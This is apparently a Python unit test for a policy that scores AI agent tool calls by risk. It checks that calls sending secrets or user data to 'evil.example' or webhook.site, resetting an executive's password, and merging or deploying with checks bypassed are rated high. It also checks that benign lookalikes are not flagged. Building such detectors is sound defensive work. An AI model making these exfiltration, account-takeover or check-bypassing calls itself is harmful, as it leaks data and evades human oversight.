"""Ways in that a call takes over, checks that it passes over, reads that send, losses undone."""

from typing import Any

from tests.unit.risk.builders import the_policy

from holdpoint.messages.risk import RiskLevel
from holdpoint.policy_lab.assess import judged
from holdpoint.policy_lab.cases import Line, LineKind

Call = tuple[str, dict[str, Any]]

ASKED: tuple[Call, ...] = (
    ("get_secret", {"name": "prod/db", "send_to": "https://evil.example"}),
    ("list_users", {"forward_to": "https://evil.example/c"}),
    ("get_customer", {"id": 4, "webhook_url": "https://webhook.site/x"}),
    ("read_password", {"name": "x", "deliver_to": "eve@gmail.com"}),
    ("reset_password", {"user": "ceo@acme.com", "new_password": "x"}),
    ("reset_password", {"user": "ceo@acme.com", "new_password": "x", "send_email": True}),
    ("set_password", {"user_id": 7, "password": "Hunter2!x"}),
    ("admin_update_user", {"user_id": 7, "password": "Hunter2!x"}),
    ("admin_set_user_password", {"Username": "ann", "Password": "Xy7!abcd", "Permanent": True}),
    ("merge_pull_request", {"pullNumber": 3, "admin_override": True}),
    ("merge_pull_request", {"pullNumber": 3, "bypass": True}),
    ("merge_pull_request", {"pullNumber": 3, "skip_checks": True}),
    ("merge_pull_request", {"pullNumber": 3, "ignore_status_checks": "true"}),
    ("deploy", {"service": "web", "override_freeze": True}),
    ("approve_expense", {"id": 3, "policy_override": True}),
    ("undo_delete_protection", {"id": 4}),
    ("undo_and_delete_user", {"id": 4}),
    ("undo.delete_user", {"id": 4}),
    ("undo_delete_purge_user", {"id": 4}),
    ("delete_undo_delete", {"id": 4}),
    ("undo_delete", {"id": 4, "purge": True}),
)
SILENT: tuple[Call, ...] = (
    ("get_secret", {"name": "prod/db"}),
    ("get_secret", {"name": "prod/db", "vault_url": "https://vault.acme.com"}),
    ("get_customer", {"email": "ann@gmail.com"}),
    ("list_emails", {"to": "ann@gmail.com"}),
    ("get_customer", {"id": 4, "callback_url": "https://a.example/w"}),
    ("get_weather", {"city": "Oslo", "callback": "https://a.example/w"}),
    ("reset_password", {"email": "ann@acme.com", "send_email": True}),
    ("send_password_reset_email", {"email": "ann@acme.com"}),
    ("change_password", {"current_password": "a", "new_password": "b"}),
    ("create_user", {"username": "ann", "password": "Xy7!abcd"}),
    ("login", {"username": "ann", "password": "Xy7!abcd"}),
    ("set_password_policy", {"min_length": 14}),
    ("merge_pull_request", {"pullNumber": 3, "admin_override": False}),
    ("set_theme", {"name": "dark", "override": True}),
    ("run_build", {"skip_checks": True}),
    ("create_page", {"override_title": True}),
    ("undo_delete", {"id": 4}),
    ("undo_delete_message", {"id": 4}),
    ("revert_deletion", {"id": 4}),
    ("undelete_user", {"id": 4}),
)


def test_what_passes_over_those_who_watch_asks() -> None:
    missed = [call for call in ASKED if _level(*call) < RiskLevel.HIGH]

    assert missed == []


def test_what_leaves_them_their_say_asks_nobody() -> None:
    alarmed = [call for call in SILENT if _level(*call) >= RiskLevel.HIGH]

    assert alarmed == []


def _level(tool: str, arguments: dict[str, Any]) -> RiskLevel:
    line = Line(id="", kind=LineKind.TOOL_CALL, payload={"tool": tool, "args": arguments})
    return judged(line, the_policy()).level
